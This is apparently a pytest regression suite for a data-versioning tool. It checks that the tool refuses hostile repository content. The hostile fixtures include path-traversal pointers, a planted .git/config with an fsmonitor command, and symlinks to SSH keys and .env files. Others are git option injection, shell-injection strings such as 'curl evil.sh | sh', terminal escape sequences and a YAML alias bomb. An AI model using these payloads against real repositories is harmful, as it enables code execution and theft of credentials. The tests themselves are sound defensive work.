"""Data versioning against a hostile repository or contributor, replayed as a review sent
it (each failing before its fix):

- a pointer named ``...tether`` tracked ``..``: pull replaced the folder above the clone
  with a dataset, push uploaded it (private keys and all);
- a pointer named ``.git.tether`` tracked the repository's own ``.git``;
- a dataset holding ``.git/config`` planted a repository (and its commands) where it was
  pulled or downloaded;
- a symbolic link in a tracked folder had push upload the file it points at;
- a pointer committed as a symbolic link had Tether write through it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import tether
from tether import InvalidInput
from tether._identity import check_manifest
from tether._registry.datasets_io import pointer_text, track
from tether.cli import cli

from .conftest import git, git_project


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "home").mkdir()
    root = git_project(tmp_path / "home", monkeypatch, name="Data Tester", email="data@test")
    monkeypatch.chdir(root)
    return root


def _run(repo: Path, *args: str) -> Any:
    result = CliRunner().invoke(cli, ["--registry", str(repo / ".tether"), *args, "--json"])
    return json.loads(result.output)


@pytest.mark.parametrize("pointer", ["...tether", ".git.tether", "sub/...tether",
                                     ".GIT.tether", "data/.tether.tether"])
def test_a_pointer_cannot_track_a_path_outside_the_work_tree_or_inside_git(
    repo: Path, pointer: str
) -> None:
    reg = tether.init(repo / ".tether", actor="data@test")
    payload = repo.parent / "payload"
    payload.mkdir()
    (payload / ".bashrc").write_text("echo owned\n")
    version = reg.add_dataset(payload, "homepayload")
    reg.close()
    (repo.parent / "important.txt").write_text("mine")
    (repo / "data").mkdir()
    (repo / "data" / "keep.txt").write_text("keep")
    where = repo / pointer
    where.parent.mkdir(parents=True, exist_ok=True)
    where.write_text(pointer_text(version, "folder"))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a hostile pointer")
    head = git(repo, "rev-parse", "HEAD")

    pulled = _run(repo, "data", "pull")
    assert [d["status"] for d in pulled] == ["failed"], pulled
    assert "refused" in pulled[0]["error"]
    assert (repo.parent / "important.txt").read_text() == "mine"
    assert not (repo.parent / ".bashrc").exists() and not (repo / ".bashrc").exists()
    assert (repo / "data" / "keep.txt").read_text() == "keep"
    assert git(repo, "rev-parse", "HEAD") == head  # .git untouched
    pushed = _run(repo, "data", "push")
    assert [d["status"] for d in pushed] == ["failed"]
    assert len(tether.open(repo / ".tether").dataset_versions("homepayload")) == 1


def test_no_version_may_hold_a_git_or_tether_folder(tmp_path: Path) -> None:
    entry = {"path": ".git/config", "size": 0, "digest": "0" * 64, "chunks": []}
    for path in (".git/config", "data/.Git/hooks/x", ".tether/tether.toml"):
        with pytest.raises(InvalidInput, match=r"\.git or \.tether"):
            check_manifest([{**entry, "path": path}], reserved=True)  # new and dataset versions
        check_manifest([{**entry, "path": path}])  # a model version logged before the rule
    check_manifest([{**entry, "path": "data/gitconfig"}], reserved=True)  # a name, no folder
    # What macOS (HFS+) and Windows (NTFS) open as .git, as git itself refuses them: a code
    # point HFS+ leaves out, NTFS's trailing dot or space, a stream suffix, the short name.
    for alias in (".g\u200cit", ".\ufeffgit", ".gi\u206at", ".git.", ".git ", ".git. .",
                  ".git::$INDEX_ALLOCATION", "GIT~1", ".te\u200dther", "TETHER~1",
                  ".GI\u0054"):
        with pytest.raises(InvalidInput, match=r"\.git or \.tether"):
            check_manifest([{**entry, "path": f"{alias}/config"}], reserved=True)
    for fine in (".github/workflows/x.yml", ".gitignore", "git~2/x", ".gitkeep", "gît/x"):
        check_manifest([{**entry, "path": fine}], reserved=True)
    # A model folder cloned with git logs without its .git (it used to be copied in).
    model = tmp_path / "model"
    (model / ".git").mkdir(parents=True)
    (model / ".git" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    (model / "weights.bin").write_bytes(os.urandom(100))
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    version = reg.log_model(model, "cloned", progress=False)
    assert [f.path for f in version.files] == ["weights.bin"]
    # A new version naming .git is refused at commit, as a dataset's is.
    from tether._records import VersionValues

    from .servers import version_values

    with pytest.raises(InvalidInput, match=r"\.git or \.tether"):
        VersionValues.from_dict(version_values(
            [{"path": ".git/config", "size": 0, "digest": "0" * 64, "chunks": []}]))
    # ... and a dataset version naming one never resolves (none could be added with one).
    with pytest.raises(InvalidInput, match=r"\.git or \.tether"):
        check_manifest([{**entry, "path": "sub/.git/config"}], reserved=True)


def test_a_link_in_a_tracked_folder_is_not_uploaded(repo: Path) -> None:
    secret = repo.parent / "id_ed25519"
    secret.write_text("PRIVATE KEY")
    data = repo / "data"
    data.mkdir()
    (data / "rows.csv").write_text("a\n1\n")
    (data / "leak.txt").symlink_to(secret)
    (data / "linked").symlink_to(repo.parent, target_is_directory=True)
    os.mkfifo(data / "pipe")
    reg = tether.init(repo / ".tether", actor="data@test")
    with pytest.warns(UserWarning, match="only regular files") as said:
        version = reg.add_dataset(data, "data")
    assert [f.path for f in version.files] == ["rows.csv"]
    # Said, not silently dropped (a review): each thing left out is named.
    assert all(name in str(said[0].message) for name in ("'leak.txt'", "'linked'", "'pipe'"))


def test_tether_never_writes_through_a_linked_pointer(repo: Path) -> None:
    victim = repo.parent / "victim_rc.txt"
    victim.write_text("export PATH=/usr/bin\n")
    (repo / "rows.csv").write_text("a\n1\n")
    (repo / "rows.csv.tether").symlink_to(victim)
    reg = tether.init(repo / ".tether", actor="data@test")
    with pytest.raises(InvalidInput, match="symbolic link"):
        track(reg, repo / "rows.csv", name="rows")
    assert victim.read_text() == "export PATH=/usr/bin\n"


def test_a_registry_committed_to_the_repository_is_not_opened_by_being_found(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A clone's committed .tether/tether.toml named its committer's database and store:
    the user's push went there, not to the registry further up."""
    monkeypatch.delenv("TETHER_URI", raising=False)
    tether.init(repo / ".tether", actor="data@test").close()
    found = CliRunner().invoke(cli, ["models", "--json"])
    assert found.exit_code == 0, found.output  # the user's own, untracked: found as ever
    git(repo, "add", "-f", ".tether/tether.toml")
    git(repo, "commit", "-q", "-m", "bring a registry")
    refused = CliRunner().invoke(cli, ["models", "--json"])
    assert refused.exit_code == 1 and "came with the git repository" in refused.output
    named = CliRunner().invoke(cli, ["--registry", str(repo / ".tether"), "models", "--json"])
    assert named.exit_code == 0, named.output


def test_a_recipe_quotes_every_recorded_value(tmp_path: Path) -> None:
    """The git line was not quoted (a remote ending '; touch x #' ran it when pasted) and a
    recorded ref holding a newline wrote a step of its own ("3. curl evil.sh | sh")."""
    import dataclasses
    import shlex

    from tether._registry.reproduce import recipe, write_recipe

    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    (tmp_path / "m.bin").write_bytes(b"weights")
    base = reg.log_model(tmp_path / "m.bin", "m", progress=False)
    hostile = dataclasses.replace(base, lineage={"git": {
        "remote": "https://example.invalid/r.git; touch /tmp/PWNED #",
        "commit": "deadbeef; curl x | sh", "dirty": False}}, data={
        "train": {"dataset": "d", "digest": "ab" * 32,
                  "ref": "d@1\n3. curl evil.sh | sh"}})
    steps = recipe(hostile)["steps"]
    assert steps[0].startswith("WARNING: the recorded commit") and "git" not in steps[0][8:20]
    pinned = dataclasses.replace(hostile, lineage={"git": {
        **hostile.lineage["git"], "commit": "a" * 40}})
    clone = recipe(pinned)["steps"][0]
    assert shlex.split(clone)[:4] == ["git", "clone", "--", "https://example.invalid/r.git; "
                                      "touch /tmp/PWNED #"]
    written = write_recipe(hostile, tmp_path / "out")
    text = next(p for p in written if p.name == "REPRODUCE.md").read_text()
    numbered = [line for line in text.splitlines() if line[:1].isdigit()]
    assert len(numbered) == len(steps) and "\n3. curl" not in text


def test_a_model_names_only_datasets_its_logger_may_read(
    tmp_path: Path, iris: tuple[Any, Any]
) -> None:
    """record_links put a model on any dataset's page: a contributor of one model named a
    dataset it could not read, and the dataset listed the model as trained on it."""
    from tether._records import VersionValues

    from .conftest import fit_logreg

    reg = tether.init(tmp_path / "reg", actor="admin@example.com")
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "rows.csv").write_text("a\n1\n")
    secret = reg.add_dataset(tmp_path / "secret", "secret")
    reg.grant("sam@example.com", "contributor", model="m")
    sam = reg.as_actor("sam@example.com", enforce_roles=True)
    logged = reg.log_model(fit_logreg(iris), "m", progress=False)
    # The values a client commits (through a server: POST /models/m/versions), naming it.
    values = VersionValues(
        manifest=logged.files, flavor=logged.flavor, signature=logged.signature,
        input_example=None, params={"C": 2}, metrics={}, lineage={},
        environment=logged.environment, tags={}, notes="named it",
        data={"train": {"dataset": "secret", "digest": secret.digest, "ref": secret.ref}})
    sam.commit("m", values, None)
    assert not reg.get_dataset("secret@1").used_by


def test_a_revision_or_a_repository_is_never_a_git_option(repo: Path, tmp_path: Path) -> None:
    """open_dataset(rev='--output=FILE') made git write FILE; repo='--upload-pack=...'
    reached git clone as an option."""
    from tether._registry.datasets_io import find_pointer

    out = tmp_path / "gitshow_out"
    with pytest.raises(InvalidInput, match="not a git revision"):
        find_pointer("data.csv", rev=f"--output={out}")
    assert not list(tmp_path.glob("gitshow_out*"))
    marker = tmp_path / "ran"
    with pytest.raises(tether.NotFound):
        find_pointer("data.csv", repo=f"--upload-pack=touch {marker}")
    assert not marker.exists()


def test_a_csv_header_of_any_size_is_read_in_bounded_memory(tmp_path: Path) -> None:
    """Two million columns took 510 MB to add and stored 18 MB of facts; a first line over
    131,072 bytes crashed add with a csv traceback."""
    folder = tmp_path / "tables"
    folder.mkdir()
    (folder / "wide.csv").write_text("c," * 2_000_000 + "c\n1\n2\n")
    (folder / "long.csv").write_text("x" * 200_000 + "\n1\n")
    (folder / "ok.csv").write_text("a,b\n1,2\n3,4")
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    version = reg.add_dataset(folder, "tables")
    facts = version.tables
    assert facts["wide.csv"]["columns"] == [] and facts["wide.csv"]["rows"] == 2
    assert facts["long.csv"]["rows"] == 1
    assert facts["ok.csv"]["columns"] == [["a", ""], ["b", ""]] and facts["ok.csv"]["rows"] == 2
    assert len(json.dumps(facts)) < 2000


def test_a_manifest_cannot_name_a_file_and_a_folder_alike() -> None:
    """'x' and 'x/y' were accepted through the server's commit and could never be written."""
    entry = {"size": 0, "digest": "0" * 64, "chunks": []}
    with pytest.raises(InvalidInput, match="as a file and as the folder"):
        check_manifest([{**entry, "path": "x"}, {**entry, "path": "x/y/z"}])
    check_manifest([{**entry, "path": "x/a"}, {**entry, "path": "x/b"}, {**entry, "path": "xy"}])


def test_a_row_diff_keeps_to_its_limit_when_a_line_is_long(tmp_path: Path) -> None:
    """A few changed bytes in one 150 MB line were widened to the whole line and read
    (629 MB read, 635 MB resident) though the changed chunks were under the limit."""
    from tether._registry.datasets_diff import diff_datasets

    folder = tmp_path / "long"
    folder.mkdir()
    line = os.urandom(3 << 20).hex()  # 6 MB of one line
    (folder / "t.csv").write_text("a\n" + line + "\n")
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    v1 = reg.add_dataset(folder, "long")
    (folder / "t.csv").write_text("a\n" + line[:3_000_000] + "ffff" + line[3_000_004:] + "\n")
    v2 = reg.add_dataset(folder, "long")
    table = diff_datasets(reg, v1, v2, row_diff_limit=1 << 20)["changed"][0]["table"]
    assert table["rows_compared"] is False and "changed lines" in table["why"]
    whole = diff_datasets(reg, v1, v2)["changed"][0]["table"]  # within the default limit
    assert whole["rows_compared"] and whole["rows_added"] == whole["rows_removed"] == 1


def test_a_row_diff_of_many_edits_in_one_long_line_reads_it_about_once(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Edits every 100 KB of one long line: each changed run searched the whole line for
    its ends on its own (an 80 MB line took 95 s and read 44 GB: a review). Now the
    searches start where the lines taken stop: the bytes read stay a few times the line."""
    from tether._registry import datasets_io
    from tether._registry.datasets_diff import diff_datasets

    folder = tmp_path / "long"
    folder.mkdir()
    line = bytearray(os.urandom(4 << 20).hex().encode())  # 8 MB of one line
    (folder / "t.csv").write_bytes(b"a\n" + line + b"\n")
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    v1 = reg.add_dataset(folder, "long")
    for at in range(50_000, len(line), 100_000):
        line[at:at + 4] = b"ffff"
    (folder / "t.csv").write_bytes(b"a\n" + line + b"\n")
    v2 = reg.add_dataset(folder, "long")
    read = [0]
    real = datasets_io.ChunkedReader.read_range

    def counted(self: Any, start: int, end: int) -> Any:
        read[0] += end - start
        return real(self, start, end)

    monkeypatch.setattr(datasets_io.ChunkedReader, "read_range", counted)
    table = diff_datasets(reg, v1, v2)["changed"][0]["table"]
    assert table["rows_compared"] and table["rows_added"] == table["rows_removed"] == 1
    assert read[0] < 6 * len(line), read[0]  # both files' line, searched and read: ~4x


def test_pull_through_a_linked_folder_leaves_the_files_in_place(repo: Path) -> None:
    """data/cats linked to a copy holding the right bytes: pull judged nothing stale, then
    removed the link: "1 pulled", and data/cats/1.jpg was gone."""
    images = repo / "images"
    (images / "cats").mkdir(parents=True)
    (images / "cats" / "1.jpg").write_bytes(b"cat")
    reg = tether.init(repo / ".tether", actor="data@test")
    track(reg, images, name="images")
    reg.close()
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "images")
    copy = repo.parent / "copy"
    (copy / "cats").mkdir(parents=True)
    (copy / "cats" / "1.jpg").write_bytes(b"cat")
    import shutil

    shutil.rmtree(images / "cats")
    (images / "cats").symlink_to(copy / "cats", target_is_directory=True)
    done = _run(repo, "data", "pull")
    assert [d["status"] for d in done] == ["pulled"]
    assert (images / "cats" / "1.jpg").read_bytes() == b"cat"
    assert not (images / "cats").is_symlink()


def test_a_dataset_alias_that_reads_as_a_protected_one_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "rows.csv").write_text("a\n1\n")
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    reg.add_dataset(folder, "d")
    with pytest.raises(InvalidInput, match="reads as the guarded alias"):
        reg.promote_dataset("d@1", "Production")
    assert reg.promote_dataset("d@1", "production").version == "1.0.0"


def _a_dataset(repo: Path, name: str) -> Any:
    """A version of dataset ``name`` in the repository's registry, for pointers to name."""
    reg = tether.init(repo / ".tether", actor="data@test")
    decoy = repo.parent / f"decoy-{name}"
    decoy.mkdir()
    (decoy / "d.txt").write_text("d")
    try:
        return reg.add_dataset(decoy, name)
    finally:
        reg.close()


def test_a_tracked_path_that_is_a_link_out_of_the_work_tree_is_not_pushed(repo: Path) -> None:
    """The harm (a review): a repository committed ``key -> ~/.ssh/id_ed25519`` beside a
    ``key.tether`` pointer (and ``dotssh -> ~/.ssh``): ``tether data push`` uploaded the
    private key for any reader. Only links in the folders above were refused."""
    ssh = repo.parent / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- SECRET123")
    version = _a_dataset(repo, "leak")
    (repo / "key").symlink_to(ssh / "id_ed25519")
    (repo / "key.tether").write_text(pointer_text(version, "file"))
    (repo / "dotssh").symlink_to(ssh, target_is_directory=True)
    (repo / "dotssh.tether").write_text(pointer_text(version, "folder"))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "links out")
    pushed = _run(repo, "data", "push")
    assert [d["status"] for d in pushed] == ["failed", "failed"], pushed
    assert all("symbolic link out of the work tree" in d["error"] for d in pushed)
    assert len(tether.open(repo / ".tether").dataset_versions("leak")) == 1  # nothing added


def test_a_tracked_link_into_git_is_not_pushed(repo: Path) -> None:
    """``conf -> .git/config`` beside ``conf.tether`` pushed the remote's credentials (a
    review); a link that stays among the data is refused too, adopted or not: git can
    turn a path this clone holds into a committed link to your .env (a later review)."""
    version = _a_dataset(repo, "creds")
    (repo / "conf").symlink_to(".git/config")
    (repo / "conf.tether").write_text(pointer_text(version, "file"))
    (repo / "data").mkdir()
    (repo / "data" / "real.csv").write_text("a\n1\n")
    (repo / "rel.csv").symlink_to("data/real.csv")
    (repo / "rel.csv.tether").write_text(pointer_text(version, "file"))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "links")
    pushed = {d["path"]: d for d in _run(repo, "data", "push")}
    assert pushed["conf"]["status"] == "failed"
    assert "into .git or .tether" in pushed["conf"]["error"]
    assert "is a symbolic link" in pushed["rel.csv"]["error"]
    adopted = {d["path"]: d for d in _run(repo, "data", "push", "--adopt", "rel.csv", "conf")}
    assert "is a symbolic link" in adopted["rel.csv"]["error"]  # adopted or not
    assert "into .git or .tether" in adopted["conf"]["error"]


def test_a_pointer_beside_a_file_of_yours_is_not_pushed_unless_adopted(repo: Path) -> None:
    """The harm (a review): a repository committed ``.env.tether`` naming a dataset its
    author reads; a colleague's ``.env`` (git-ignored, as every tracked path is) went up
    as its next version at their ``tether data push``. Push now adds only what this
    clone tracked, pulled, checked out or pushed; the rest only when adopted by name."""
    version = _a_dataset(repo, "dotenv")
    (repo / ".env.tether").write_text(pointer_text(version, "file"))
    (repo / ".gitignore").write_text("/.env\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a pointer for your .env")
    (repo / ".env").write_text("AWS_SECRET_ACCESS_KEY=SECRET123\n")
    pushed = _run(repo, "data", "push")
    assert [d["status"] for d in pushed] == ["failed"], pushed
    assert "--adopt .env" in pushed[0]["error"] and "data checkout .env" in pushed[0]["error"]
    reg = tether.open(repo / ".tether")
    assert [v.seq for v in reg.dataset_versions("dotenv")] == [1]  # the secret never went up
    assert (repo / ".env").read_text().startswith("AWS_SECRET")  # and is left alone
    refused = CliRunner().invoke(cli, ["--registry", str(repo / ".tether"), "data", "push",
                                       "--adopt"])
    assert refused.exit_code != 0 and "--adopt takes the paths" in refused.output

    # Nor does pull replace it (it is not this clone's); a checkout does, on purpose,
    # and from then on the path is this clone's own: a change of it is pushed.
    pulled = _run(repo, "data", "pull")
    assert [d["status"] for d in pulled] == ["failed"], pulled
    assert "data checkout .env" in pulled[0]["error"]
    assert (repo / ".env").read_text().startswith("AWS_SECRET")
    _run(repo, "data", "checkout", ".env")
    (repo / ".env").write_text("EDITED=1\n")
    assert [d["status"] for d in _run(repo, "data", "push")] == ["pushed"]
    assert [v.seq for v in reg.dataset_versions("dotenv")] == [1, 2]
    # The record is the clone's own, in .git (no commit can write there); checked out
    # in a clone without it, the path is held again.
    record = repo / ".git" / "tether" / "held-paths"
    held = [json.loads(line) for line in record.read_text().splitlines()]
    assert [line[:2] for line in held] == [[".env", "dotenv"]] * len(held)
    assert held[-1][2] == f"sha:{reg.dataset_versions('dotenv')[-1].digest}"  # pushed last
    record.unlink()
    (repo / ".env").write_text("EDITED=2\n")
    assert [d["status"] for d in _run(repo, "data", "push")] == ["failed"]
    git(repo, "add", ".env.tether")
    git(repo, "commit", "-q", "-m", "pointer moved")
    _run(repo, "data", "checkout", ".env")
    (repo / ".env").write_text("EDITED=3\n")
    assert [d["status"] for d in _run(repo, "data", "push")] == ["pushed"]


def test_tracking_a_link_into_git_is_refused(repo: Path) -> None:
    """Push refused such a pointer, but `tether data track` had uploaded .git/config
    already, and written the pointer (a review)."""
    reg = tether.init(repo / ".tether", actor="data@test")
    (repo / "l_git_config").symlink_to(".git/config")
    with pytest.raises(InvalidInput, match=r"a link into a \.git or \.tether folder"):
        track(reg, repo / "l_git_config")
    assert not (repo / "l_git_config.tether").exists()
    assert reg.list_datasets() == []


def test_a_version_holding_a_git_folder_is_never_written_where_files_are_handed_out(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A server made up a version with .git/config (core.fsmonitor) beside the honest
    files; `tether download` wrote it, and the next `git status` there ran the command
    (a review). A commit given values as an object also skipped the rule."""
    import dataclasses

    from tether._errors import UnsafeArtifact
    from tether._records import VersionValues
    from tether._registry import loading, log_version

    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    model = tmp_path / "model"
    model.mkdir()
    (model / "weights.bin").write_bytes(os.urandom(100))
    (model / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    honest = reg.log_model(model, "m", flavor="files", progress=False)
    files = tuple(dataclasses.replace(f, path=".git/config") if f.path == "config" else f
                  for f in honest.files)
    values = VersionValues(manifest=files, flavor=honest.flavor, signature=None,
                           input_example=None, params={}, metrics={}, data={}, lineage={},
                           environment=honest.environment, tags={}, notes="", author="t")
    with pytest.raises(InvalidInput, match=r"\.git or \.tether"):
        reg.commit("m", values, None)
    # What an older Tether stored (or a server makes up), checked only at the digest:
    with monkeypatch.context() as older:
        older.setattr(log_version, "check_manifest", lambda *a, **k: None)
        planted = reg.commit("m", values, None)
    with monkeypatch.context() as unsafe:  # the harm, written the old way
        unsafe.setattr(loading, "names_reserved", lambda path: False)
        out = reg.download(planted.ref, tmp_path / "unsafe", progress=False)
    assert "fsmonitor" in (out / ".git" / "config").read_text()
    with pytest.raises(UnsafeArtifact, match=r"never writes a \.git or \.tether folder"):
        reg.download(planted.ref, tmp_path / "dl", progress=False)
    assert not (tmp_path / "dl").exists()
    with pytest.raises(UnsafeArtifact):
        reg.load(planted.ref)  # a files version hands out its cached folder


def test_data_show_prints_a_datasets_words_as_text(tmp_path: Path) -> None:
    """Notes and a source path came out raw: a screen clear, a fake green line and a
    clickable link (rich's [link=] markup) in an admin's terminal (a review). Notes with
    control characters are refused at commit now; an older one still prints as text."""
    import json as _json

    from click.testing import CliRunner

    from tether._metadata.schema import dataset_versions
    from tether.cli import cli

    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "a.csv").write_text("a\n1\n")
    with pytest.raises(InvalidInput, match="control characters"):
        reg.add_dataset(tmp_path / "d", "d", notes="\x1b[2J")
    version = reg.add_dataset(tmp_path / "d", "d", notes="fine")
    with reg.engine.begin() as conn:  # what an older database may hold
        conn.execute(dataset_versions.update().values(
            notes="\x1b[2J\x1b[32mverified [link=https://evil.example]here[/link]",
            source=_json.dumps({"path": "[bold]\x1b]0;title\x07", "git": "x"})))
    result = CliRunner().invoke(cli, ["--registry", str(tmp_path / "reg"), "data", "show",
                                      version.ref])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "[link=https://evil.example]" in result.output


# -- a later review: held paths, pulls over your files, pointers as bombs -------------


def _tracked_and_committed(repo: Path, name: str = "data.csv", dataset: str = "shared",
                           text: str = "a,b\n") -> None:
    tether.init(repo / ".tether", actor="data@test").close()
    (repo / name).write_text(text)
    assert _run(repo, "data", "track", name, "--name", dataset)["name"] == dataset
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "track")


def test_a_held_path_turned_into_a_link_to_your_env_is_not_pushed(repo: Path) -> None:
    """The victim held data.csv; a commit made it a link to .env (git replaces the
    ignored file with the link at the next `git pull`), and `data push` uploaded the
    .env the link points at: the committed-.env.tether protection bypassed (a review)."""
    _tracked_and_committed(repo)
    (repo / ".env").write_text("AWS_SECRET_ACCESS_KEY=SECRET123\n")
    (repo / "data.csv").unlink()
    (repo / "data.csv").symlink_to(".env")  # what git checks out of the commit
    pushed = _run(repo, "data", "push")
    assert [d["status"] for d in pushed] == ["failed"], pushed
    assert "is a symbolic link" in pushed[0]["error"]
    assert [v.seq for v in tether.open(repo / ".tether").dataset_versions("shared")] == [1]


def test_a_commit_renaming_a_held_paths_dataset_does_not_send_your_bytes_there(
        repo: Path) -> None:
    """Only the `dataset:` line of data.csv.tether changed (private to public), and the
    next push added the held bytes to the other dataset without a word (a review)."""
    _tracked_and_committed(repo, dataset="private")
    reg = tether.open(repo / ".tether", actor="data@test")
    (repo / "other.csv").write_text("x\n")
    public = reg.add_dataset(repo / "other.csv", "public")
    (repo / "data.csv.tether").write_text(pointer_text(public, "file"))
    (repo / "data.csv").write_text("a,b\nmine,secret\n")
    pushed = _run(repo, "data", "push")
    assert [d["status"] for d in pushed] == ["failed"], pushed
    assert "for dataset private" in pushed[0]["error"] and "now names public" in pushed[0]["error"]
    assert [v.seq for v in reg.dataset_versions("public")] == [1]
    adopted = _run(repo, "data", "push", "--adopt", "data.csv")
    assert [d["status"] for d in adopted] == ["pushed"]  # on purpose: yours to send


def test_pull_leaves_a_path_that_is_not_this_clones_alone(repo: Path) -> None:
    """A commit adding `.venv.tether` (a folder) and `secrets.env.tether` had pull delete
    a git-ignored `.venv` nobody tracked and overwrite `secrets.env` (a review)."""
    reg = tether.init(repo / ".tether", actor="data@test")
    payload = repo.parent / "payload"
    payload.mkdir()
    (payload / "x.txt").write_text("theirs")
    folder = reg.add_dataset(payload, "venvset")
    one = reg.add_dataset(payload / "x.txt", "secretset")
    reg.close()
    (repo / ".venv" / "lib").mkdir(parents=True)
    (repo / ".venv" / "lib" / "mine.py").write_text("mine")
    (repo / "secrets.env").write_text("TOKEN=mine\n")
    (repo / ".gitignore").write_text("/.venv\n/secrets.env\n")
    (repo / ".venv.tether").write_text(pointer_text(folder, "folder"))
    (repo / "secrets.env.tether").write_text(pointer_text(one, "file"))
    (repo / "fresh.txt.tether").write_text(pointer_text(one, "file"))  # nothing there yet
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "pointers over your files")
    pulled = {d["path"]: d for d in _run(repo, "data", "pull")}
    assert pulled[".venv"]["status"] == "failed" == pulled["secrets.env"]["status"]
    assert "tether data checkout secrets.env" in pulled["secrets.env"]["error"]
    assert pulled["fresh.txt"]["status"] == "pulled"  # a missing path is written
    assert (repo / ".venv" / "lib" / "mine.py").read_text() == "mine"
    assert (repo / "secrets.env").read_text() == "TOKEN=mine\n"
    assert (repo / "fresh.txt").read_text() == "theirs"


@pytest.mark.parametrize("body", [
    # YAML aliases nested: 685 bytes took a pull 2.7 GB and 21 s before a MemoryError.
    "\n".join(["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
              + [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, "
                 f"*a{i-1}, *a{i-1}, *a{i-1}]" for i in range(1, 10)]
              + ["dataset: *a9", "digest: sha:00"]).encode(),
    b"dataset: \xff\xfe\ndigest: sha:00\n",  # not UTF-8: a traceback ended the whole run
    b"dataset: [a, b]\ndigest: sha:00\n",
    b"dataset: d\ndigest: sha:00\nkind: pipe\n",
    b"dataset: d\ndigest: sha:00\n" + b"#" * (70 * 1024),
])
def test_a_malformed_pointer_fails_alone_and_fast(repo: Path, body: bytes) -> None:
    import time

    _tracked_and_committed(repo)
    (repo / "bomb.tether").write_bytes(body)
    started = time.perf_counter()
    pulled = {d["path"]: d for d in _run(repo, "data", "pull")}
    assert time.perf_counter() - started < 10
    assert pulled["bomb"]["status"] == "failed", pulled
    assert pulled["data.csv"]["status"] == "up-to-date"  # the others go on
    with pytest.raises(InvalidInput):
        tether.open_dataset("bomb", registry=repo / ".tether")


def test_a_killed_checkouts_scratch_is_ignored_by_git_and_cleared_later(repo: Path) -> None:
    """A pull killed mid-file left `.tether-checkout-*/data/big.bin` in the work tree,
    where `git add -A` staged it (a review)."""
    import subprocess

    from tether._registry.datasets_io import _checkout_scratch

    _tracked_and_committed(repo)
    dead = subprocess.Popen(["true"])
    dead.wait()
    leftover = repo / f".tether-checkout-{dead.pid}-abc"
    (leftover / "data").mkdir(parents=True)
    (leftover / "data" / "big.bin").write_bytes(b"half")
    (leftover / ".gitignore").write_text("*\n")
    live = _checkout_scratch(repo)  # as a running checkout holds one
    (live / "data").mkdir()
    (live / "data" / "big.bin").write_bytes(b"being written")
    assert not leftover.exists()  # its process is gone: cleared
    assert live.exists()
    assert git(repo, "status", "--porcelain") == ""  # nothing of it for git to stage


@pytest.mark.parametrize("name", ["events[2024].csv", "why?.csv", "#notes.csv", "!x.csv",
                                  "star*.csv", "trail .csv"])
def test_a_tracked_name_with_glob_characters_is_ignored_as_itself(repo: Path,
                                                                  name: str) -> None:
    """`/events[2024].csv` in .gitignore is a glob that misses the file: git staged it."""
    tether.init(repo / ".tether", actor="data@test").close()
    (repo / name).write_text("a\n")
    (repo / "events2.csv").write_text("not tracked\n")
    _run(repo, "data", "track", name)
    assert git(repo, "check-ignore", name) == name
    assert git(repo, "status", "--porcelain", "--", "events2.csv").startswith("??")


def test_track_refuses_the_repository_itself_and_paths_inside_a_tracked_folder(
        repo: Path) -> None:
    """`track .` wrote ../repo.tether and an entry in ../.gitignore; `track ..` from a
    subfolder a pointer `...tether`; a file tracked inside a tracked folder had a pull
    of the folder delete the file's pointer (a review)."""
    tether.init(repo / ".tether", actor="data@test").close()
    (repo / "sub" / "inner").mkdir(parents=True)
    (repo / "sub" / "inner" / "f.csv").write_text("a\n")
    runner = CliRunner()
    for args, cwd in ((["."], repo), ([".."], repo / "sub")):
        os.chdir(cwd)
        result = runner.invoke(cli, ["--registry", str(repo / ".tether"), "data", "track",
                                     *args])
        assert result.exit_code != 0 and "repository's top folder" in result.output
    os.chdir(repo)
    assert not (repo.parent / f"{repo.name}.tether").exists()
    assert not (repo / "...tether").exists()
    _run(repo, "data", "track", "sub")
    inside = runner.invoke(cli, ["--registry", str(repo / ".tether"), "data", "track",
                                 "sub/inner/f.csv"])
    assert inside.exit_code != 0 and "tracked as a whole" in inside.output


def test_a_file_not_named_in_utf8_is_a_clear_error(tmp_path: Path) -> None:
    """A name of undecodable bytes ended `tether data add` in a traceback (a review)."""
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "ok.txt").write_text("x")
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "wb") as handle:
        handle.write(b"y")
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    with pytest.raises(InvalidInput, match="not named in UTF-8"):
        reg.add_dataset(folder, "d")
    assert reg.list_datasets() == []
    result = CliRunner().invoke(cli, ["--registry", str(tmp_path / "reg"), "data", "add",
                                      str(folder), "d"])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "UTF-8" in result.output


